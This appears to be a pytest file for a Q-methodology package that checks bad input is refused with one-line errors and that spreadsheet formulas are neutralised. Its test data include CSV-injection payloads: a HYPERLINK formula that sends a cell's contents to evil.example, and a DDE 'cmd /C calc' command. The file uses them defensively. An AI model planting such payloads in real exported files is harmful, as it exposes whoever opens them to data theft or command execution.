"""Bad input that once escaped the one-line errors (issue 14): huge grids, lone
surrogates, devices and FIFOs, formula cells. Each case runs where a regression
cannot take the machine down (a child process with capped memory and time)."""
from __future__ import annotations

from pathlib import Path

import pytest
from badinput import assert_one_line_error, run_capped

from qmethod.errors import GridError
from qmethod.grid import MAX_GRID_COLUMNS, MAX_GRID_SCORE, Grid

HUGE_LOW, HUGE_HIGH = -100_000_000, 100_000_000
BOUND_TEXT = f"-{MAX_GRID_SCORE}..+{MAX_GRID_SCORE}"


# -- 1. grid width -----------------------------------------------------------------------
def test_grid_width_bound_is_checked_before_building_the_range():
    with pytest.raises(GridError, match=rf"at most {MAX_GRID_COLUMNS} columns"):
        Grid.from_range(HUGE_LOW, HUGE_HIGH, [1])
    with pytest.raises(GridError, match="within"):
        Grid.from_values([0, 1_000_000])
    with pytest.raises(GridError, match="within"):
        Grid((-21, 0), (1, 1))
    g = Grid.from_range(-MAX_GRID_SCORE, MAX_GRID_SCORE, [1] * MAX_GRID_COLUMNS)
    assert len(g.scores) == MAX_GRID_COLUMNS


def test_cli_huge_grid_argument_is_one_line(tmp_path):
    from refdata import reference_path
    p = run_capped("-m", "qmethod", "analyze", reference_path("datasets", "lipset", "sorts.csv"),
                   "-k", 2, f"--grid={HUGE_LOW}..{HUGE_HIGH}:1", "--out", tmp_path / "out")
    assert_one_line_error(p, BOUND_TEXT)
    assert not (tmp_path / "out").exists()


def test_sorts_with_scores_a_million_apart_give_no_huge_result(tmp_path):
    csv = tmp_path / "wide.csv"
    csv.write_text("statement,a,b,c\ns1,-1000000,1000000,0\ns2,1000000,-1000000,1\n"
                   "s3,0,0,-1000000\ns4,1,1,1000000\n", encoding="utf-8")
    out = tmp_path / "out"
    p = run_capped("-m", "qmethod", "analyze", csv, "-k", 1, "--out", out)
    assert_one_line_error(p, BOUND_TEXT, f"at most {MAX_GRID_COLUMNS} columns")
    assert not (out / "result.json").exists()


HUGE_GRID_YAML = """\
slug: huge
title: Huge grid
welcome: Welcome.
consent: Agree?
instruction: Sort.
thank_you: Thanks.
statements:
  - {id: s1, text: One}
  - {id: s2, text: Two}
grid:
  low: %d
  high: %d
  heights: [1, 1]
  labels: [Disagree, Agree]
"""


def test_study_yaml_with_a_huge_grid_range_is_one_line(tmp_path):
    study = tmp_path / "huge.yaml"
    study.write_text(HUGE_GRID_YAML % (HUGE_LOW, HUGE_HIGH), encoding="utf-8")
    p = run_capped("-c", "import sys\nfrom studies.loader import load_study\nfrom studies.errors "
                   "import StudyError\ntry:\n load_study(sys.argv[1])\nexcept StudyError as e:\n"
                   " print(e, file=sys.stderr); sys.exit(2)", study)
    assert_one_line_error(p, "huge.yaml", BOUND_TEXT)


def test_study_yaml_with_huge_scores_list_is_refused(tmp_path):
    from studies.errors import StudyError
    from studies.loader import load_study
    study = tmp_path / "scores.yaml"
    study.write_text((HUGE_GRID_YAML % (0, 1)).replace("  low: 0\n  high: 1\n",
                                                       "  scores: [-5, 1000000]\n"), encoding="utf-8")
    with pytest.raises(StudyError, match=BOUND_TEXT.replace("+", r"\+")):
        load_study(study)


# -- 2. lone surrogates and NUL in files ----------------------------------------------------
KENQ_RECORD = '"sort": "-1|0|1|0", "participantName": "%s"'


@pytest.mark.parametrize("where", ["name", "key"])
def test_kenq_lone_surrogate_is_one_line(tmp_path, where):
    from qmethod.errors import FormatError
    from qmethod.io import read_kenq_json
    key, name = ("r2", "P\\ud800x") if where == "name" else ("K\\udc00", "B")
    bad = "{\"r1\": {" + KENQ_RECORD % "A" + "},\n\"" + key + "\": {" + KENQ_RECORD % name + "}}"
    path = tmp_path / "bad.json"
    path.write_text(bad, encoding="utf-8")
    with pytest.raises(FormatError) as info:
        read_kenq_json(path)
    message = str(info.value)
    assert "\n" not in message and "line 2" in message
    assert "lone surrogate" in message
    message.encode("utf-8")                 # the message itself can be printed
    p = run_capped("-m", "qmethod", "analyze", path, "-k", 1, "--out", tmp_path / "out")
    assert_one_line_error(p, "bad.json, line 2")


def test_kenq_surrogate_pair_is_a_character(tmp_path):
    from qmethod.io import read_kenq_json
    path = tmp_path / "ok.json"
    path.write_text("{\"r1\": {" + KENQ_RECORD % "A" + "},\n\"r2\": {"
                    + KENQ_RECORD % "\\ud83d\\ude00" + "}}", encoding="utf-8")
    assert list(read_kenq_json(path).sorts.columns) == ["A", "\U0001F600"]


@pytest.mark.parametrize("escape", ["\\ud800", "\\0"])
def test_study_yaml_with_surrogate_or_nul_is_refused(tmp_path, escape):
    from studies.errors import StudyError
    from studies.loader import load_study
    study = tmp_path / "s.yaml"
    study.write_text((HUGE_GRID_YAML % (0, 1)).replace("text: Two", f'text: "T{escape}wo"'),
                     encoding="utf-8")
    with pytest.raises(StudyError) as info:
        load_study(study)
    assert "line 9: statements[1].text" in str(info.value) and ("NUL" in str(info.value) or "surrogate" in str(info.value))
    str(info.value).encode("utf-8")


def test_csv_and_dat_readers_refuse_bytes_that_are_not_utf8(tmp_path):
    """A surrogate cannot come from UTF-8 bytes: its encoded form is refused as not UTF-8."""
    from qmethod.errors import FormatError
    from qmethod.io import read_sorts_csv
    path = tmp_path / "s.csv"
    path.write_bytes(b"statement,a,b\ns1,1,0\ns\xed\xa0\x80,0,1\n")
    with pytest.raises(FormatError, match="line 3.*not UTF-8"):
        read_sorts_csv(path)


# -- 3. regular files only, size caps, atomic outputs ----------------------------------------
def _specials(tmp_path, name):
    """Paths (in tmp_path) that are no regular file: a FIFO and links to the
    endless read-only devices (read here, never written)."""
    import os
    fifo = tmp_path / f"fifo-{name}"
    os.mkfifo(fifo)
    out = {"fifo": fifo}
    for dev in ("zero", "urandom"):
        link = tmp_path / f"{dev}-{name}"
        link.symlink_to(f"/dev/{dev}")
        out[dev] = link
    return out


@pytest.mark.parametrize("kind", ["fifo", "zero", "urandom"])
def test_analyze_refuses_fifos_and_devices(tmp_path, kind):
    path = _specials(tmp_path, "sorts.csv")[kind]
    p = run_capped("-m", "qmethod", "analyze", path, "-k", 1, "--out", tmp_path / "out", timeout=30)
    assert_one_line_error(p, path.name, "only regular files are read")


@pytest.mark.parametrize("kind", ["fifo", "zero"])
def test_study_loader_refuses_fifos_and_devices(tmp_path, kind):
    path = _specials(tmp_path, "study.yaml")[kind]
    p = run_capped("-c", "import sys\nfrom studies.loader import load_study\nfrom studies.errors "
                   "import StudyError\ntry:\n load_study(sys.argv[1])\nexcept StudyError as e:\n"
                   " print(e, file=sys.stderr); sys.exit(2)", path, timeout=30)
    assert_one_line_error(p, path.name, "only regular files are read")


def test_size_caps(tmp_path):
    from qmethod.errors import FormatError
    from qmethod.files import read_limited
    from studies.errors import StudyError
    from studies.loader import MAX_STUDY_BYTES, load_study
    small = tmp_path / "small.csv"
    small.write_bytes(b"x" * 11)
    assert read_limited(small, 11) == b"x" * 11
    with pytest.raises(FormatError, match="small.csv: the file is 11 bytes, more than the 10 bytes"):
        read_limited(small, 10)
    big = tmp_path / "big.yaml"
    big.write_bytes(b"#" * (MAX_STUDY_BYTES + 1))
    with pytest.raises(StudyError, match="big.yaml: the study file is 10 MB, more than the 10 MB"):
        load_study(big)


def test_outputs_refuse_fifos_and_folders(tmp_path):
    """A FIFO and a link to a folder in tmp_path stand for every non-regular
    destination (a device is never opened for writing in a test)."""
    import os
    fifo = tmp_path / "fifo.csv"
    os.mkfifo(fifo)
    link = tmp_path / "link.csv"
    link.symlink_to(fifo)
    folder_link = tmp_path / "folder.csv"
    (tmp_path / "folder").mkdir()
    folder_link.symlink_to(tmp_path / "folder")
    code = ("import sys\nfrom qmethod.errors import QMethodError\nfrom qmethod.io import "
            "write_sorts_csv, read_sorts_csv\nfrom refdata import reference_path\n"
            "d = read_sorts_csv(reference_path('datasets', 'lipset', 'sorts.csv'))\n"
            "try:\n write_sorts_csv(d, sys.argv[1])\nexcept QMethodError as e:\n"
            " print(e, file=sys.stderr); sys.exit(2)")
    env = dict(os.environ, PYTHONPATH=str(Path(__file__).parent))
    for target in (fifo, link, folder_link):
        p = run_capped("-c", code, target, timeout=30, env=env)
        assert_one_line_error(p, target.name, "cannot write here")
    assert fifo.is_fifo() and link.is_symlink() and folder_link.is_symlink()
    assert sorted(x.name for x in tmp_path.iterdir()) == ["fifo.csv", "folder", "folder.csv", "link.csv"]


def test_output_through_a_link_to_a_file_keeps_the_link(tmp_path):
    from qmethod.files import write_text_atomic
    real = tmp_path / "real.txt"
    real.write_text("old", encoding="utf-8")
    link = tmp_path / "link.txt"
    link.symlink_to(real)
    write_text_atomic(link, "new")
    assert link.is_symlink() and real.read_text(encoding="utf-8") == "new"


def test_a_failed_write_leaves_nothing(tmp_path):
    from qmethod.errors import OutputError
    from qmethod.files import write_text_atomic
    path = tmp_path / "out.txt"
    path.write_text("before", encoding="utf-8")
    with pytest.raises(OutputError, match="out.txt: cannot write character 3"):
        write_text_atomic(path, "ab\ud800c")
    assert path.read_text(encoding="utf-8") == "before" and len(list(tmp_path.iterdir())) == 1


# -- 6. spreadsheet formulas neutralised, numbers untouched ----------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-x", "@SUM(A1)",
            "\t=1+1", "\r=2"]


def test_safe_cell_quotes_formulas_and_leaves_numbers():
    from qmethod.cells import safe_cell, safe_frame, unquote_cell
    for f in FORMULAS:
        assert safe_cell(f) == "'" + f and unquote_cell(safe_cell(f)) == f
    for keep in ("-3", "-1.5", "+2", "1e3", "plain", "", "it's", -3, -1.5, 0, None, True):
        assert safe_cell(keep) == keep
    import pandas as pd
    df = pd.DataFrame({"text": ["=1+1", "ok"], "score": [-3, 2], "z": [-1.5, 0.25]},
                      index=pd.Index(["-x", "s2"], name="statement"))
    safe = safe_frame(df)
    assert safe["text"].tolist() == ["'=1+1", "ok"] and list(safe.index) == ["'-x", "s2"]
    assert safe["score"].tolist() == [-3, 2] and safe["z"].tolist() == [-1.5, 0.25]
    assert df["text"].tolist() == ["=1+1", "ok"]                  # the input is not changed


def _formula_data():
    import pandas as pd

    from qmethod.data import QSortData
    ids = ["-x", "=s2", "s3", "@s4", "s5"]
    sorts = pd.DataFrame({"+p1": [-2, -1, 0, 1, 2], "p2": [2, 1, 0, -1, -2], "=p3": [0, -2, 2, -1, 1],
                          "p4": [-2, 0, -1, 2, 1]}, index=pd.Index(ids, name="statement"))
    texts = pd.Series([FORMULAS[0], FORMULAS[1], "plain", FORMULAS[3], "-1.5"], index=ids)
    return QSortData(sorts=sorts, statements=texts, title=FORMULAS[0][:40])


def _cells(path):
    import csv
    with open(path, encoding="utf-8", newline="") as f:
        return [c for row in csv.reader(f) for c in row]


def _assert_no_formula_cell(path):
    from qmethod.cells import needs_quote
    bad = [c for c in _cells(path) if needs_quote(c)]
    assert not bad, (path.name, bad[:5])


def test_csv_sta_dat_writers_neutralise_and_readers_round_trip(tmp_path):
    from qmethod.io import read_dat, read_sorts_csv, write_dat, write_sorts_csv, write_sta
    data = _formula_data()
    write_sorts_csv(data, tmp_path / "s.csv", statements_path=tmp_path / "s.statements.csv")
    for name in ("s.csv", "s.statements.csv"):
        _assert_no_formula_cell(tmp_path / name)
    cells = _cells(tmp_path / "s.csv")
    assert "-2" in cells and "'-x" in cells and "'+p1" in cells     # scores stay bare numbers
    assert "-1.5" in _cells(tmp_path / "s.statements.csv")          # a number-like text too
    back = read_sorts_csv(tmp_path / "s.csv", statements_path=tmp_path / "s.statements.csv")
    assert list(back.sorts.index) == list(data.sorts.index)
    assert list(back.sorts.columns) == list(data.sorts.columns)
    assert back.statements.tolist() == data.statements.tolist()
    write_dat(data, tmp_path / "s.dat")
    write_sta(data, tmp_path / "s.sta")
    sta = (tmp_path / "s.sta").read_text(encoding="utf-8").splitlines()
    assert sta[0].startswith("'=HYPERLINK") and sta[1].startswith("'+cmd") and sta[4].startswith("-1.5")
    head = (tmp_path / "s.dat").read_text(encoding="utf-8").splitlines()[0]
    assert head[10:].startswith("'=HYPERLINK")
    back = read_dat(tmp_path / "s.dat", tmp_path / "s.sta")
    assert back.title == data.title and back.statements.tolist() == data.statements.tolist()


def test_analysis_csvs_are_neutralised_numbers_untouched(tmp_path):
    import pandas as pd

    from qmethod import analyze
    data = _formula_data()
    res = analyze(data, 2)
    files = [p for p in res.write(tmp_path) if p.suffix == ".csv"]
    assert files
    for path in files:
        _assert_no_formula_cell(path)
    loadings = pd.read_csv(tmp_path / "loadings.csv", index_col=0)
    assert list(loadings.index) == ["'+p1", "p2", "'=p3", "p4"]
    assert (loadings.to_numpy() < 0).any()                          # negatives stay numbers
    pd.testing.assert_frame_equal(loadings.set_axis(res.loadings.index).set_axis(
        res.loadings.columns.astype(str), axis=1), res.loadings.set_axis(
        res.loadings.columns.astype(str), axis=1), check_names=False, atol=1e-12)


def test_invitation_links_csv_is_neutralised():
    import pandas as pd

    from webapp.researcher.invitations import links_csv
    text = links_csv(pd.DataFrame({"label": ["=cmd", "ok"], "n": [-1, 2]})).decode("utf-8")
    assert text.splitlines() == ["label,n", "'=cmd,-1", "ok,2"]


def test_a_bad_key_is_named_on_one_line():
    # Found by the submission fuzz test in CI: a timings key "\n\x00" put a line
    # break into the participant's one-line message.
    from qmethod.textcheck import describe_path, find_bad_text
    where, problem = find_bad_text({"timings": {"\n\x00": None}}, ("q",))
    named = describe_path(where)
    assert named == "q.timings.\\x0a\\x00" and problem == "a NUL character"
    assert describe_path(("a\u2028b", "\x7f\ud800")) == "a\\u2028b.\\x7f\\ud800"
    named.encode("utf-8")
